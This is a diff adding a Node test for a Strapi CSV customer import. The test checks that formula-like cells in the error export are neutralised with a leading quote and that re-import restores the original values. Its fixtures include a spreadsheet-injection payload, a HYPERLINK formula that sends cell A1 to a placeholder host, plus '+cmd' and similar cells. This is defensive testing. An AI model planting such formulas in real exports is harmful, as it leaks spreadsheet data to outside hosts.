@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import type { Core } from '@strapi/strapi';
+import Papa from 'papaparse';
 import { TABLE } from '../../contracts/constants';
 import { knexOf } from '../../server/src/database/knex';
 import { countRows } from '../helpers/data';
@@ -102,6 +103,38 @@ describe('importing customers from CSV', () => {
     assert.match(
       lines[1],
       /^3,email,"""not-an-email"" is not a valid email address",Bad,Email,not-an-email/
+    );
+  });
+
+  it('neutralises formula-like cells in the error file, and imports them back as they were', async () => {
+    const formula = '=HYPERLINK("http://x"&A1,"x")';
+    const csv = [
+      'first_name,last_name,email,phone_number,job_title,street',
+      `"${formula.replace(/"/g, '""')}",+cmd,not-an-email,+31 030-2271710,@SUM(1),-2+3`,
+    ].join('\n');
+    const job = await importCsv(strapi, admin, csv);
+    assert.equal(job.failed, 1);
+    const res = await admin.get(`/segments/imports/${job.id}/errors.csv`);
+    assert.equal(res.status, 200);
+    const [header, row] = Papa.parse<string[]>(res.text.trim()).data;
+    const cell = (column: string) => row[header.indexOf(column)];
+    assert.deepEqual(['first_name', 'last_name', 'phone_number', 'job_title', 'street'].map(cell), [
+      `'${formula}`,
+      "'+cmd",
+      "'+31 030-2271710",
+      "'@SUM(1)",
+      "'-2+3",
+    ]);
+    for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
+
+    // Corrected as the docs say (the email fixed, the rest as it is) and imported again.
+    const fixed = res.text.replace(',not-an-email,', ',formula@example.com,');
+    const again = await importCsv(strapi, admin, fixed);
+    assert.deepEqual([again.created, again.failed], [1, 0], JSON.stringify(again.firstErrors));
+    const c = await customerByEmail('formula@example.com');
+    assert.deepEqual(
+      [c.firstName, c.lastName, c.phones, c.jobTitle, c.street],
+      [formula, '+cmd', ['310302271710'], '@SUM(1)', '-2+3']
     );
   });
 
